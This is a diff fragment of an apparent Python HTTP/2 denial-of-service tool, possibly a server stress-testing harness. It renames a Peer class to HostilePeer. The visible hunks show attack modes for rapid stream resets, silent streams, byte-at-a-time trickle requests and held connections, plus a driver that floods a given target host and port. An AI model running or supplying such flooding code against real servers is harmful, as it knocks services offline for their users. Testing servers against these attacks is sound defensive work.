@@ -36,10 +36,10 @@ CLOSED = (OSError, asyncio.IncompleteReadError)
 STREAMS_A_CONNECTION = 100
 REOPEN_SECONDS = 0.2
 
-Work = Callable[["Peer", int], Coroutine[None, None, None]]
+Work = Callable[["HostilePeer", int], Coroutine[None, None, None]]
 
 
-class Peer:
+class HostilePeer:
     """What all connections of one attack share.
 
     Args:
@@ -83,7 +83,7 @@ async def drain_input(reader: asyncio.StreamReader, writer: asyncio.StreamWriter
             writer.write(frame(PING, ACK, 0, body))
 
 
-async def rapid_reset(peer: Peer, number: int) -> None:
+async def rapid_reset(peer: HostilePeer, number: int) -> None:
     """Streams that are opened and reset at once, as fast as they are taken."""
     reader, writer = await peer.connected(opening())
     reading = asyncio.create_task(drain_input(reader, writer))
@@ -100,7 +100,7 @@ async def rapid_reset(peer: Peer, number: int) -> None:
         writer.close()
 
 
-async def silent_streams(peer: Peer, number: int) -> None:
+async def silent_streams(peer: HostilePeer, number: int) -> None:
     """Streams that are opened and say nothing."""
     reader, writer = await peer.connected(opening())
     try:
@@ -113,7 +113,7 @@ async def silent_streams(peer: Peer, number: int) -> None:
         writer.close()
 
 
-async def trickle(peer: Peer, number: int) -> None:
+async def trickle(peer: HostilePeer, number: int) -> None:
     """A stream whose question comes a byte at a time."""
     reader, writer = await peer.connected(opening() + call(1, peer.path))
     reading = asyncio.create_task(drain_input(reader, writer))
@@ -131,7 +131,7 @@ async def trickle(peer: Peer, number: int) -> None:
 
 
 def _holding(first: bytes, live: bool = False) -> Work:
-    async def hold(peer: Peer, number: int) -> None:
+    async def hold(peer: HostilePeer, number: int) -> None:
         reader, writer = await peer.connected(first)
         try:
             if live:
@@ -155,7 +155,7 @@ MODES: dict[str, Work] = {
 }
 
 
-async def attack(peer: Peer, work: Work, connections: int) -> None:
+async def attack(peer: HostilePeer, work: Work, connections: int) -> None:
     """All connections of the attack, until its time is over."""
     tasks = [asyncio.create_task(peer.again(work, number)) for number in range(connections)]
     await asyncio.sleep(1)
@@ -180,7 +180,7 @@ def main() -> int:
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     host, port = options.target.rsplit(":", 1)
     message = options.message.read_bytes() if options.message else bytes(4096)
-    peer = Peer(host, int(port), options.seconds, options.path, message)
+    peer = HostilePeer(host, int(port), options.seconds, options.path, message)
     asyncio.run(attack(peer, MODES[options.mode], options.connections))
     print(json.dumps(peer.counts), flush=True)
     return 0
